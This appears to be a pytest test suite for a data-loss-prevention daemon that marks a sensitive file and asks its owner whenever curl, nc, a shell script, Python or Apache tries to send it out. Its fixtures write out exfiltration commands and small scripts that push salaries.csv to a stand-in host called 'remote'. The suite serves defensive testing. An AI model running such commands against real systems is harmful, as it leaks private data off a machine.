# SPDX-License-Identifier: GPL-3.0-or-later
"""The whole way once: a file is marked, programs try to send it, questions are answered, the answers hold."""

import pytest

from thorough import daily

UPLOAD = "curl -sS -m 90 -T {} http://remote/"


def upload(path="salaries.csv"):
    """The shell command that sends a file with curl."""
    return UPLOAD.format(path)


def check_arrival(scene, verdict):
    """The remote host received what the verdict says."""
    if verdict == "allow":
        scene.assert_all_arrived()
    elif verdict in ("scrub", "takeover"):
        scene.assert_scrubbed_arrived()
    else:
        scene.assert_nothing_leaked()


@pytest.mark.parametrize("verdict", ["block", "scrub", "allow", "takeover", "quit"])
def test_curl(scene, verdict):
    """curl -T of a marked file asks; each verdict does what it says."""
    scene.label()
    question, done = scene.send_and_answer(upload(), verdict)
    assert question["executable"] == "/usr/bin/curl" and question["file"] == scene.file
    assert (question["host"], question["port"]) == ("remote", 80)
    assert (done.returncode == 0) == (verdict in ("scrub", "allow", "takeover")), done.stderr
    check_arrival(scene, verdict)
    assert scene.decisions() == [("answered", verdict)]


def test_unlabelled_is_not_asked(scene):
    """curl of a file that is not marked sends it unasked."""
    done = scene.run(upload())
    assert done.returncode == 0, done.stderr
    scene.assert_all_arrived()
    scene.assert_unasked()


@pytest.mark.nightly
def test_local_use_is_not_asked(scene):
    """Programs that only read a marked file run as ever. What they print stays in the guest: ssh would carry it out."""
    command = "{ sha256sum salaries.csv; wc salaries.csv; sort salaries.csv; } >"
    assert scene.run(command + "before").returncode == 0
    scene.label()
    assert scene.run(command + "after").returncode == 0
    assert scene.run("cmp before after && ! cmp before salaries.csv >differences").returncode == 0
    scene.assert_unasked()


WAYS = {
    "pipe": "base64 salaries.csv | nc -N -w 90 remote 9",
    "copy": f"cp salaries.csv copy && {upload('copy')}",
    "script": "./backup.sh",
    "python": "python3 send.py",
}
FILES = {
    "backup.sh": "#!/bin/sh\ndata=$(cat salaries.csv)\nfor try in 1; do\n  printf '%s\\n' \"$data\" | nc -N -w 90 remote 9\ndone\n",
    "send.py": "import http.client\n"
               "connection = http.client.HTTPConnection('remote', timeout=90)\n"
               "connection.request('PUT', '/salaries', body=open('salaries.csv', 'rb').read())\n"
               "print(connection.getresponse().status)\n",
}


@pytest.mark.newest_kernel
@pytest.mark.parametrize("verdict", daily(["block", "allow"], "block"))
@pytest.mark.parametrize("way", daily(WAYS, "python"))
def test_ways(scene, way, verdict):
    """The label goes with the data: through a pipe, a copy, a shell script, Python."""
    for name, content in FILES.items():
        scene.guest.write(f"{scene.folder}/{name}", content, user="anna")
    scene.guest.run(f"chmod +x {scene.folder}/backup.sh", check=True)
    scene.label()
    question, _ = scene.send_and_answer(WAYS[way], verdict)
    assert question["host"] == "remote"
    check_arrival(scene, verdict)


@pytest.mark.nightly
def test_ipv6(scene):
    """A host that is reached over IPv6 is asked about, and a rule on it holds."""
    scene.label()
    command = "curl -sS -m 90 -T salaries.csv http://remote6/"
    question, _ = scene.send_and_answer(command, "block")
    assert (question["host"], question["address"], question["port"]) == ("remote6", "fd77::2", 80)
    scene.tacet.run("rule", "add", "block", "--host", "remote6")
    assert scene.run(command).returncode != 0
    assert scene.decisions() == [("answered", "block"), ("rule", "block")]
    scene.assert_nothing_leaked()


@pytest.mark.newest_kernel
def test_copy_is_marked(scene):
    """A copy carries the label of what it was copied from, and says that it is derived."""
    scene.label()
    scene.run("cp salaries.csv copy; tr a-z A-Z <salaries.csv >shout; echo public >other")
    assert scene.tacet.categories(f"{scene.folder}/copy") == ["finance"]
    assert scene.tacet.categories(f"{scene.folder}/shout") == ["finance"]
    assert scene.tacet.categories(f"{scene.folder}/other") == []


@pytest.fixture
def apache(guest):
    """A running Apache, and the path of a folder that it serves."""
    guest.run("systemctl start apache2", check=True)
    yield "/var/www/html"
    guest.run("systemctl stop apache2", check=True)


@pytest.mark.parametrize("verdict", daily(["block", "allow"], "block"))
def test_apache(scene, apache, verdict):
    """Apache serving a marked file to the remote host asks the file's owner."""
    name = scene.folder.rsplit("/", 1)[-1]
    scene.secret.allowed = verdict == "allow"
    scene.guest.run(f"install -o anna -g anna {scene.file} {apache}/{name}.csv", check=True)
    scene.label(f"{apache}/{name}.csv")
    getting = scene.remote.fetch(f"http://10.77.0.1/{name}.csv")
    question = scene.tacet.wait_question()
    assert question["executable"] == "/usr/sbin/apache2" and question["file"] == f"{apache}/{name}.csv"
    scene.tacet.answer(question, verdict)
    getting.communicate(timeout=100)
    check_arrival(scene, verdict)


@pytest.mark.nightly
def test_apache_unlabelled(scene, apache):
    """Apache serves a file that is not marked unasked."""
    name = scene.folder.rsplit("/", 1)[-1]
    scene.guest.run(f"install -m 644 {scene.file} {apache}/{name}.csv", check=True)
    assert scene.remote.fetch(f"http://10.77.0.1/{name}.csv").wait(100) == 0
    scene.assert_all_arrived()
    scene.assert_unasked()


@pytest.mark.newest_kernel
def test_rule(scene):
    """'Always block curl to remote': no prompt, logged; without the rule it is asked again."""
    scene.label()
    rule = scene.tacet.json("rule", "add", "block", "--executable", "/usr/bin/curl", "--host", "remote", "--for", "always")["id"]
    assert scene.run(upload()).returncode != 0
    assert scene.tacet.questions() == []
    assert scene.decisions() == [("rule", "block")]
    scene.tacet.run("rule", "remove", rule)
    scene.send_and_answer(upload(), "block")
    scene.assert_nothing_leaked()


@pytest.mark.nightly
def test_rule_change_decides_what_waits(scene):
    """A rule that is made while a question is open answers it."""
    scene.label()
    attempt = scene.start(upload())
    scene.tacet.wait_question()
    scene.tacet.run("rule", "add", "scrub", "--host", "remote", "--for", "15min")
    assert attempt.finish().returncode == 0
    scene.assert_scrubbed_arrived()
    assert scene.tacet.questions() == []


@pytest.mark.nightly
def test_daemon_killed_during_question(scene):
    """tacetd is killed while a question is open: nothing leaks, and it is asked again by the next one."""
    scene.label()
    attempt = scene.start(upload())
    first = scene.tacet.wait_question()
    scene.guest.run("systemctl kill --signal=KILL tacetd", check=True)
    again = scene.tacet.wait_question()
    assert again["pid"] == first["pid"] and attempt.running()
    scene.tacet.answer(again, "block")
    assert attempt.finish().returncode != 0
    scene.assert_nothing_leaked()
    scene.guest.wait_for(scene.app_is_agent, what="the app to register again")


@pytest.mark.nightly
def test_daemon_absent(scene):
    """Without tacetd a marked file does not leave; it is told when tacetd is back."""
    scene.label()
    scene.guest.run("systemctl mask --runtime --now tacetd", check=True)
    try:
        assert scene.run(upload(), timeout=100).returncode != 0
        scene.assert_nothing_leaked()
    finally:
        scene.guest.run("systemctl unmask --runtime tacetd && systemctl start tacetd", check=True)
    scene.guest.wait_for(lambda: scene.decisions() == [("missed", "block")], what="the missed question in the log")
    scene.guest.wait_for(scene.app_is_agent, what="the app to register again")


@pytest.mark.nightly
def test_app_absent(scene):
    """With nobody to ask it is blocked, and logged as missed."""
    scene.label()
    scene.stop_app()
    try:
        assert scene.run(upload(), timeout=100).returncode != 0
        scene.assert_nothing_leaked()
        assert scene.decisions() == [("missed", "block")]
        assert scene.log()[-1]["reason"] == "no-agent"
    finally:
        scene.start_app()
